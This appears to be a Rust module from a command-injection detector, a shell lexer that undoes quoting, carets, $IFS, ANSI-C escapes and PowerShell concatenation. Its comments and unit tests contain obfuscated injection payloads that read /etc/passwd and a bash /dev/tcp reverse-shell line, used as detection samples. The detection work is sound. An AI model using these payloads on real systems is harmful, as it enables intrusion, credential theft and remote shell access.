//! A shell lexer for command injection (read by [`super::shell_injection`]):
//! splits a value into words and separators the way `sh` and `cmd` would,
//! undoing on the way what a shell undoes before it runs a word.
//!
//! ```text
//! x;c'a't${IFS}/etc/passwd   Sep(;) Word(cat, obfuscated) Word(/etc/passwd)
//! |{ls,-la,/}                Sep(|) Word(ls) Word(-la) Word(/)
//! a&&who^ami                 Word(a) Sep(&&) Word(whoami, obfuscated)
//! ```
//!
//! Undone: quotes (`'...'` and `"..."` are one word with the quotes
//! dropped), backslash escapes (one before a letter marks the word
//! obfuscated: letters need none), `cmd` carets, unset variables (`$u`, `${u}`, `$@`, `$9`: empty),
//! `$IFS` and `${IFS...}` (a blank), brace expansion (`{a,b}`: `a b`),
//! `%COMSPEC%` (`cmd`), line continuations (a backslash before a newline),
//! ANSI-C quoting (`$'\x63at'`: `cat`), `PowerShell` string concatenation
//! (`'who'+'ami'`); a `cmd` substring (`%comspec:~0,3%`) is dropped and
//! noted ([`Lexer::has_substring`]), and so are the names of the variables
//! dropped from a word ([`Lexer::variables`]). Separators: `;` `|` `||` `&&` `` ` `` `$(` (strong:
//! rare outside a command line) and newline, `&`, `(` (weak: common in
//! text). `<` and `>` end a word (redirection, with their `&` and digits).

/// How much a separator says about the text being a command line.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Strength {
    /// The start of the value: no separator at all.
    Start,
    /// Newline, `&`, `(`: common in prose and lists.
    Weak,
    /// `;`, `|`, `||`, `&&`, a backtick, `$(`.
    Strong,
}

/// One token of a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Token {
    /// A command separator.
    Separator(Strength),
    /// A redirection (`<`, `>`, `>&`, `2>`).
    Redirect,
    /// A word, its text in the lexer's buffer ([`Lexer::word`]).
    Word(WordShape),
}

/// What the lexer saw while reading a word.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) struct WordShape {
    /// A quote, backslash, caret or empty variable was dropped between two
    /// of its characters (`c'a't`, `c\at`, `who^ami`, `c${u}at`).
    pub obfuscated: bool,
    /// It holds a glob character (`?`, `*`, `[`).
    pub glob: bool,
    /// It was longer than the buffer keeps ([`MAX_WORD`]).
    pub truncated: bool,
}

/// The most variable names a word remembers ([`Lexer::variables`]).
const MAX_VARIABLES: usize = 4;

/// The longest word kept: longer words are no command names.
pub(crate) const MAX_WORD: usize = 48;

/// Reads a value's tokens one at a time.
pub(crate) struct Lexer<'a> {
    bytes: &'a [u8],
    at: usize,
    braces: u32,
    /// The quote open at the cursor, if any.
    quote: Option<u8>,
    /// The last word's bytes (ASCII: other bytes are kept as 0x7f), and
    /// its length: a fixed buffer, no allocation per lexer.
    word: [u8; MAX_WORD],
    len: usize,
    /// Where the names of the variables dropped from the last word are
    /// (start, length) in the value, and how many.
    variables: [(usize, usize); MAX_VARIABLES],
    variable_count: usize,
    /// Whether the last word holds a `cmd` substring of a variable.
    substring: bool,
}

impl<'a> Lexer<'a> {
    /// A lexer over `text` (decoded, lower case).
    pub(crate) fn new(text: &'a str) -> Self {
        Self {
            bytes: text.as_bytes(),
            at: 0,
            braces: 0,
            quote: None,
            word: [0; MAX_WORD],
            len: 0,
            variables: [(0, 0); MAX_VARIABLES],
            variable_count: 0,
            substring: false,
        }
    }

    /// Whether the last word holds a `cmd` substring of a variable
    /// (`%comspec:~0,3%`), whose value the lexer cannot know: a word the
    /// shell builds.
    pub(crate) fn has_substring(&self) -> bool {
        self.substring
    }

    /// The names of the named variables (`$a`, `${a}`) dropped from the
    /// last word (at most [`MAX_VARIABLES`]).
    pub(crate) fn variables(&self) -> impl Iterator<Item = &'a str> + '_ {
        self.variables[..self.variable_count]
            .iter()
            .filter_map(|&(start, len)| std::str::from_utf8(&self.bytes[start..start + len]).ok())
    }

    /// The text of the last [`Token::Word`] (at most [`MAX_WORD`] bytes).
    pub(crate) fn word(&self) -> &str {
        // Only ASCII bytes are kept, so this never fails.
        std::str::from_utf8(&self.word[..self.len]).unwrap_or_default()
    }

    /// The next token, `None` at the end of the value.
    pub(crate) fn next_token(&mut self) -> Option<Token> {
        self.skip_blanks();
        let b = *self.bytes.get(self.at)?;
        if let Some(token) = self.operator(b) {
            return Some(token);
        }
        let start = self.at;
        let shape = self.read_word();
        if self.at == start {
            // Never stall on a byte no rule above reads.
            self.at += 1;
        }
        Some(Token::Word(shape))
    }

    /// Skips whitespace, and commas inside braces.
    fn skip_blanks(&mut self) {
        while let Some(&b) = self.bytes.get(self.at) {
            if is_blank(b) || (b == b',' && self.braces > 0) {
                self.at += 1;
            } else if b == b'{' || b == b'}' {
                self.brace(b);
            } else if b == b'$' && self.ifs_len().is_some() {
                self.at += self.ifs_len().unwrap_or(1);
            } else {
                break;
            }
        }
    }

    fn brace(&mut self, b: u8) {
        if b == b'{' {
            self.braces += 1;
        } else {
            self.braces = self.braces.saturating_sub(1);
        }
        self.at += 1;
    }

    /// The separator or redirection at the cursor, consumed.
    fn operator(&mut self, b: u8) -> Option<Token> {
        let next = self.bytes.get(self.at + 1).copied();
        let (token, len) = match (b, next) {
            (b'|' | b'&', Some(n)) if n == b => (Token::Separator(Strength::Strong), 2),
            (b'$', Some(b'(')) => (Token::Separator(Strength::Strong), 2),
            (b';' | b'|' | b'`', _) => (Token::Separator(Strength::Strong), 1),
            (b'&' | b'\n' | b'\r' | b'(' | b')', _) => (Token::Separator(Strength::Weak), 1),
            (b'<' | b'>', _) => (Token::Redirect, self.redirect_len()),
            (b'0'..=b'9', Some(b'<' | b'>')) => (Token::Redirect, 1 + self.redirect_len_at(1)),
            _ => return None,
        };
        self.at += len;
        Some(token)
    }

    /// The length of the redirection operator at the cursor (`>`, `>>`,
    /// `>&`, `<&`, `&>`...).
    fn redirect_len(&self) -> usize {
        self.redirect_len_at(0)
    }

    fn redirect_len_at(&self, offset: usize) -> usize {
        let rest = &self.bytes[self.at + offset..];
        1 + rest[1..]
            .iter()
            .take_while(|&&b| matches!(b, b'<' | b'>' | b'&'))
            .count()
    }

    /// The length of `$IFS`, `${IFS}` or `${IFS...}` at the cursor.
    fn ifs_len(&self) -> Option<usize> {
        let rest = &self.bytes[self.at..];
        if rest.starts_with(b"$ifs") {
            return Some(4);
        }
        if rest.starts_with(b"${ifs") {
            let close = rest.iter().position(|&b| b == b'}')?;
            return Some(close + 1);
        }
        None
    }

    /// Reads one word, undoing quotes, escapes and expansions.
    fn read_word(&mut self) -> WordShape {
        self.len = 0;
        self.variable_count = 0;
        self.substring = false;
        let mut shape = WordShape::default();
        // Whether something was dropped since the last kept character.
        let mut dropped = false;
        while let Some(&b) = self.bytes.get(self.at) {
            let quote = self.quote;
            if quote == Some(b) || (quote.is_none() && matches!(b, b'\'' | b'"')) {
                // A quote opens or closes: dropped.
                self.quote = if quote.is_some() { None } else { Some(b) };
                self.at += 1;
                dropped = true;
                if quote.is_some() && self.concatenation_follows() {
                    // `'in'+'voke'`: PowerShell joins the two strings.
                    self.at += 1;
                }
                continue;
            }
            if quote == Some(b'\'') {
                // Everything up to the closing quote is kept as it is.
                self.keep(b, &mut dropped, &mut shape);
                continue;
            }
            if quote.is_none() {
                if ends_word(b) || (b == b',' && self.braces > 0) {
                    break;
                }
                if b == b'+' && shape.obfuscated {
                    // `c$@at+/etc/passwd`: a value decoded once more as a
                    // form reads `+` as a blank.
                    break;
                }
                if self.unquoted_special(b, &mut dropped, &mut shape) {
                    continue;
                }
            }
            if b == b'$' && quote.is_none() && self.bytes.get(self.at + 1) == Some(&b'\'') {
                self.ansi_c_quoted(&mut shape);
                dropped = true;
                continue;
            }
            if b == b'$' {
                match self.variable(quote, &mut dropped) {
                    Some(Expansion::EndsWord) => break,
                    Some(Expansion::Empty) => continue,
                    None => {}
                }
            }
            if b == b'\\' {
                // An escaped character is kept, the backslash dropped; a
                // letter needs no escape (`\ls` skips an alias).
                self.at += 1;
                dropped = true;
                match self.bytes.get(self.at) {
                    // A line continuation: both bytes are dropped.
                    Some(b'\n') => self.at += 1,
                    Some(&c) => {
                        shape.obfuscated |= c.is_ascii_alphanumeric();
                        self.keep(c, &mut dropped, &mut shape);
                    }
                    None => break,
                }
                continue;
            }
            self.keep(b, &mut dropped, &mut shape);
        }
        shape
    }

    /// Handles (and moves past) a byte with a meaning outside quotes
    /// inside a word (braces, carets, `%COMSPEC%`); whether it did.
    fn unquoted_special(&mut self, b: u8, dropped: &mut bool, shape: &mut WordShape) -> bool {
        match b {
            b'{' | b'}' => self.brace(b),
            b'^' => {
                self.at += 1;
                *dropped = true;
            }
            b'%' if self.bytes[self.at..].starts_with(b"%comspec%") => {
                self.push_str("cmd", shape);
                self.at += "%comspec%".len();
            }
            b'%' if self.substring_len().is_some() => {
                self.at += self.substring_len().unwrap_or(1);
                self.substring = true;
                *dropped = true;
            }
            _ => return false,
        }
        true
    }

    /// Handles the `$` at the cursor: an empty expansion is skipped;
    /// `$IFS` and `$(` stay (they end the word outside quotes). `None`
    /// for a `$` kept as it is.
    fn variable(&mut self, quote: Option<u8>, dropped: &mut bool) -> Option<Expansion> {
        if self.ifs_len().is_some() || self.bytes.get(self.at + 1) == Some(&b'(') {
            return quote.is_none().then_some(Expansion::EndsWord);
        }
        let len = self.variable_len();
        (len > 1).then(|| {
            self.remember_variable(len);
            self.at += len;
            *dropped = true;
            Expansion::Empty
        })
    }

    /// Notes the name of the variable expansion of `len` bytes at the
    /// cursor (`$name` or `${name}`), if it has one.
    fn remember_variable(&mut self, len: usize) {
        let braced = self.bytes.get(self.at + 1) == Some(&b'{');
        let (start, end) = if braced {
            (self.at + 2, self.at + len - 1)
        } else {
            (self.at + 1, self.at + len)
        };
        let name = &self.bytes[start..end.max(start)];
        let named = name
            .first()
            .is_some_and(|&b| b.is_ascii_lowercase() || b == b'_')
            && name.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_');
        if named && self.variable_count < MAX_VARIABLES {
            self.variables[self.variable_count] = (start, name.len());
            self.variable_count += 1;
        }
    }

    /// Whether a quote just closed is joined by `+` to the next string
    /// (`'a'+'b'`), the cursor on the `+`.
    fn concatenation_follows(&self) -> bool {
        self.bytes.get(self.at) == Some(&b'+')
            && matches!(self.bytes.get(self.at + 1), Some(b'\'' | b'"'))
    }

    /// The length of the `cmd` substring expansion at the cursor
    /// (`%name:~start%`, `%name:~start,length%`, either number negative).
    fn substring_len(&self) -> Option<usize> {
        let rest = &self.bytes[self.at + 1..];
        let name = rest
            .iter()
            .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_')
            .count();
        let after = rest.get(name..)?.strip_prefix(b":~")?;
        let numbers = after
            .iter()
            .take_while(|&&b| b.is_ascii_digit() || b == b'-' || b == b',')
            .count();
        (name > 0 && numbers > 0 && after.get(numbers) == Some(&b'%'))
            .then_some(1 + name + 2 + numbers + 1)
    }

    /// Reads the ANSI-C quoted string at the cursor (`$'\x63a\164'`) into
    /// the word, its escapes decoded; the word is obfuscated.
    fn ansi_c_quoted(&mut self, shape: &mut WordShape) {
        self.at += 2;
        shape.obfuscated = true;
        while let Some(&b) = self.bytes.get(self.at) {
            self.at += 1;
            match b {
                b'\'' => return,
                b'\\' => {
                    let (c, len) = ansi_c_escape(&self.bytes[self.at..]);
                    self.at += len;
                    self.push(c, shape);
                }
                _ => self.push(b, shape),
            }
        }
    }

    /// Keeps the byte `b` at the cursor in the word.
    fn keep(&mut self, b: u8, dropped: &mut bool, shape: &mut WordShape) {
        if *dropped && self.len > 0 {
            shape.obfuscated = true;
        }
        *dropped = false;
        shape.glob |= matches!(b, b'?' | b'*' | b'[');
        self.push(b, shape);
        self.at += 1;
    }

    /// The length of the variable expansion at the cursor (`$u`, `${u}`,
    /// `$@`, `$9`), which expands to nothing; 1 for a lone `$`.
    fn variable_len(&self) -> usize {
        let rest = &self.bytes[self.at..];
        match rest.get(1) {
            Some(b'{') => rest
                .iter()
                .position(|&b| b == b'}')
                .map_or(1, |close| close + 1),
            Some(b'@' | b'*' | b'#' | b'?' | b'!' | b'-' | b'0'..=b'9') => 2,
            Some(b'a'..=b'z' | b'_') => {
                1 + rest[1..]
                    .iter()
                    .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_')
                    .count()
            }
            _ => 1,
        }
    }

    fn push(&mut self, b: u8, shape: &mut WordShape) {
        if self.len >= MAX_WORD {
            shape.truncated = true;
            return;
        }
        // A byte that is not ASCII is no command-name byte: keep the
        // word's length, mark it.
        self.word[self.len] = if b.is_ascii() { b } else { 0x7f };
        self.len += 1;
    }

    fn push_str(&mut self, s: &str, shape: &mut WordShape) {
        for b in s.bytes() {
            self.push(b, shape);
        }
    }
}

/// The byte an ANSI-C escape stands for (`rest` follows the backslash:
/// `x63`, `143`, `n`), and how many bytes of `rest` it took.
fn ansi_c_escape(rest: &[u8]) -> (u8, usize) {
    let digits = |radix: u32, most: usize, skip: usize| {
        let text = &rest[skip..];
        let len = text
            .iter()
            .take(most)
            .take_while(|b| char::from(**b).is_digit(radix))
            .count();
        let value = std::str::from_utf8(&text[..len])
            .ok()
            .and_then(|t| u32::from_str_radix(t, radix).ok())
            .and_then(|v| u8::try_from(v).ok());
        value.filter(|_| len > 0).map(|v| (v, skip + len))
    };
    let decoded = match rest.first() {
        Some(b'x') => digits(16, 2, 1),
        Some(b'0'..=b'7') => digits(8, 3, 0),
        Some(b'n') => Some((b'\n', 1)),
        Some(b't') => Some((b'\t', 1)),
        Some(&c) => Some((c, 1)),
        None => None,
    };
    decoded.unwrap_or((b'\\', 0))
}

/// What a `$` at the cursor expands to.
enum Expansion {
    /// A blank (`$IFS`) or a command substitution (`$(`): the word ends.
    EndsWord,
    /// Nothing: an unset variable, skipped.
    Empty,
}

/// Whitespace that parts words but does not end a command.
fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
}

/// Whether `b` ends a word: a blank, a separator or a redirection.
fn ends_word(b: u8) -> bool {
    is_blank(b)
        || matches!(
            b,
            b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'(' | b')' | b'<' | b'>'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The tokens of `text`, words as their text (`*` after an obfuscated one).
    fn tokens(text: &str) -> Vec<String> {
        let mut lexer = Lexer::new(text);
        let mut out = Vec::new();
        while let Some(token) = lexer.next_token() {
            out.push(match token {
                Token::Separator(Strength::Strong) => "SEP".to_owned(),
                Token::Separator(_) => "sep".to_owned(),
                Token::Redirect => "REDIR".to_owned(),
                Token::Word(shape) => {
                    let mark = if shape.obfuscated { "*" } else { "" };
                    format!("{}{mark}", lexer.word())
                }
            });
        }
        out
    }

    #[test]
    fn quoting_escapes_and_empty_variables_are_undone() {
        assert_eq!(
            tokens("x;c'a't /etc/passwd"),
            ["x", "SEP", "cat*", "/etc/passwd"]
        );
        assert_eq!(tokens(";c\\at"), ["SEP", "cat*"]);
        assert_eq!(tokens(";\"c\"at"), ["SEP", "cat*"]);
        assert_eq!(tokens("|\"cat\""), ["SEP", "cat"]);
        assert_eq!(tokens("|c$u\"at\""), ["SEP", "cat*"]);
        assert_eq!(tokens("|c${u}at$@"), ["SEP", "cat*"]);
        assert_eq!(tokens("a&&who^ami"), ["a", "SEP", "whoami*"]);
        assert_eq!(tokens("\\ls"), ["ls*"]);
    }

    #[test]
    fn ifs_braces_and_redirections_part_words() {
        assert_eq!(
            tokens(";cat$ifs$9/etc/passwd"),
            ["SEP", "cat", "/etc/passwd"]
        );
        assert_eq!(
            tokens(";cat${ifs%?}/etc/passwd"),
            ["SEP", "cat", "/etc/passwd"]
        );
        assert_eq!(tokens("|{ls,-la,/}"), ["SEP", "ls", "-la", "/"]);
        assert_eq!(
            tokens("bash -i >& /dev/tcp/x 0>&1"),
            ["bash", "-i", "REDIR", "/dev/tcp/x", "REDIR", "1"]
        );
        assert_eq!(tokens("1$(id)"), ["1", "SEP", "id", "sep"]);
        assert_eq!(tokens("& %comspec% /c"), ["sep", "cmd", "/c"]);
    }

    #[test]
    fn continuations_ansi_c_quotes_and_concatenations_are_undone() {
        assert_eq!(tokens("x|s\\\nleep 7"), ["x", "SEP", "sleep*", "7"]);
        assert_eq!(tokens(";$'\\x63\\141t' /etc"), ["SEP", "cat*", "/etc"]);
        assert_eq!(tokens("&('who'+'ami')"), ["sep", "sep", "whoami*", "sep"]);
        assert_eq!(tokens(";c$@at+/etc"), ["SEP", "cat*", "+/etc"]);
    }

    #[test]
    fn substrings_and_variables_of_a_word_are_noted() {
        let mut lexer = Lexer::new("%comspec:~-7,3% /c");
        assert!(matches!(lexer.next_token(), Some(Token::Word(_))));
        assert!(lexer.has_substring());
        assert_eq!(lexer.word(), "");
        let mut lexer = Lexer::new("$a${b}$9 -r");
        assert!(matches!(lexer.next_token(), Some(Token::Word(_))));
        assert_eq!(lexer.variables().collect::<Vec<_>>(), ["a", "b"]);
        lexer.next_token();
        assert_eq!(lexer.variables().count(), 0);
    }

    #[test]
    fn long_and_non_ascii_words_are_kept_short() {
        let mut lexer =
            Lexer::new("ééé;aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
        assert!(matches!(lexer.next_token(), Some(Token::Word(_))));
        assert_eq!(lexer.word().len(), 6);
        lexer.next_token();
        let Some(Token::Word(shape)) = lexer.next_token() else {
            panic!("a word")
        };
        assert!(shape.truncated);
        assert_eq!(lexer.word().len(), MAX_WORD);
    }
}
